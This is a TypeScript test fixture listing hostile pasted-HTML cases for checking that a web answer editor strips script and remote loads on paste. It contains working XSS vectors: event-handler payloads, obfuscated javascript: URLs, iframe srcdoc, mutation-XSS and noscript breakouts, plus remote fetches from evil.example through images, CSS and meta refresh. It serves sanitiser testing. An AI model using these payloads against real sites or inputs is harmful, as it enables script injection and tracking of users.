// The pasted-HTML corpus (issue 9): what a vendor might copy from a customer's mail, a web page or a
// hostile document and paste into the answer editor. Every payload tries to run script (it would
// set `window.__pwned` or open a dialog) or to make the window load something from a remote host
// (evil.example). Each case carries a marker text that must arrive in the editor as plain text:
// paste keeps the words and drops the rest. Run by e2e/specs/hostile-paste.spec.ts.

export interface PasteCase {
  name: string;
  html: string;
  /** Text that must be in the editor after the paste (the harmless part). */
  keeps: string;
}

const pwn = (tag: string) => `window.__pwned='${tag}'`;

export const pastedHtmlCorpus: PasteCase[] = [
  { name: 'script element', html: `<p>keep-script</p><script>${pwn('script')}</script>`, keeps: 'keep-script' },
  { name: 'img onerror', html: `<p>keep-img</p><img src="x" onerror="${pwn('img')}">`, keeps: 'keep-img' },
  { name: 'remote image', html: '<p>keep-remote-img</p><img src="http://evil.example/pixel.png" width="1" height="1">', keeps: 'keep-remote-img' },
  { name: 'remote srcset', html: '<p>keep-srcset</p><img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x">', keeps: 'keep-srcset' },
  { name: 'javascript: link', html: `<p><a href="javascript:${pwn('link')}">keep-js-link</a></p>`, keeps: 'keep-js-link' },
  { name: 'javascript: link, mixed case and entities', html: `<p><a href=" &#106;aVaScRiPt:${pwn('link2')}">keep-js-link2</a></p>`, keeps: 'keep-js-link2' },
  { name: 'data: link to a page with script', html: '<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">keep-data-link</a></p>', keeps: 'keep-data-link' },
  { name: 'svg with script and onload', html: `<p>keep-svg</p><svg onload="${pwn('svg-onload')}"><script>${pwn('svg')}</script></svg>`, keeps: 'keep-svg' },
  { name: 'iframe with javascript: and srcdoc', html: `<p>keep-iframe</p><iframe src="javascript:parent.${pwn('iframe')}"></iframe><iframe srcdoc="<script>parent.${pwn('srcdoc')}</script>"></iframe>`, keeps: 'keep-iframe' },
  { name: 'remote iframe, object and embed', html: '<p>keep-object</p><iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">', keeps: 'keep-object' },
  { name: 'style element with remote url()', html: '<style>body{background:url(http://evil.example/bg.png)} p{color:red}</style><p>keep-style</p>', keeps: 'keep-style' },
  { name: 'inline style with remote url()', html: '<p style="background-image:url(http://evil.example/inline.png)"><span style="background:url(http://evil.example/span.png)">keep-inline-style</span></p>', keeps: 'keep-inline-style' },
  { name: 'remote stylesheet link', html: '<link rel="stylesheet" href="http://evil.example/x.css"><p>keep-link-css</p>', keeps: 'keep-link-css' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=http://evil.example/"><p>keep-meta</p>', keeps: 'keep-meta' },
  { name: 'base element then a relative image', html: '<base href="http://evil.example/"><p>keep-base</p><img src="relative.png">', keeps: 'keep-base' },
  { name: 'details ontoggle', html: `<details open ontoggle="${pwn('details')}"><summary>keep-details</summary>x</details>`, keeps: 'keep-details' },
  { name: 'autofocus onfocus', html: `<p>keep-autofocus</p><input autofocus onfocus="${pwn('focus')}">`, keeps: 'keep-autofocus' },
  { name: 'video and audio onerror', html: `<p>keep-media</p><video src="x" onerror="${pwn('video')}"></video><audio src="http://evil.example/a.mp3" onerror="${pwn('audio')}"></audio>`, keeps: 'keep-media' },
  { name: 'body onload', html: `<body onload="${pwn('body')}"><p>keep-body</p></body>`, keeps: 'keep-body' },
  { name: 'form with javascript: action', html: `<form action="javascript:${pwn('form')}"><p>keep-form</p><button formaction="javascript:${pwn('button')}">go</button></form>`, keeps: 'keep-form' },
  { name: 'mutation XSS through math/style', html: `<p>keep-mxss</p><math><mtext><table><mglyph><style><img src=x onerror="${pwn('mxss')}">`, keeps: 'keep-mxss' },
  { name: 'noscript title breakout', html: `<p>keep-noscript</p><noscript><p title="</noscript><img src=x onerror=${pwn('noscript')}>"></noscript>`, keeps: 'keep-noscript' },
  { name: 'table with a remote background', html: '<table background="http://evil.example/t.png"><tr><td style="background:url(http://evil.example/td.png)">keep-table</td></tr></table>', keeps: 'keep-table' },
  { name: 'escaped markup shown as text', html: '<p>keep-escaped &lt;script&gt;alert(1)&lt;/script&gt;</p>', keeps: 'keep-escaped <script>alert(1)</script>' },
  { name: 'alert through an event handler on a span', html: `<p><span onmouseover="alert('span')" onclick="alert('span')">keep-span</span></p>`, keeps: 'keep-span' },
];
